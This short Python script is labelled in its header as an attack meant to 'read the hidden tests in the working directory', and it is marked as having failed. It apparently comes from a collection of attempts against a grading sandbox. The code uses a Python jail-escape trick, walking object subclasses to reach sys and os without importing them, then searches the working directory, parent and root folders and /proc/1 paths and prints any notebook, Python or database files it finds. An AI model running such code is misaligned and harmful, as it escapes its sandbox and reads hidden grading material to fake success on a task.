# /// attack
# rows = [26]
# title = "read the hidden tests in the working directory"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
for folder in (".", "..", "/", "/proc/1/cwd", "/proc/1/root", "COURSE"):
    try:
        for name in os.listdir(folder):
            if name.endswith((".ipynb", ".py", ".db")):
                print(open(os.path.join(folder, name)).read())
    except OSError:
        pass
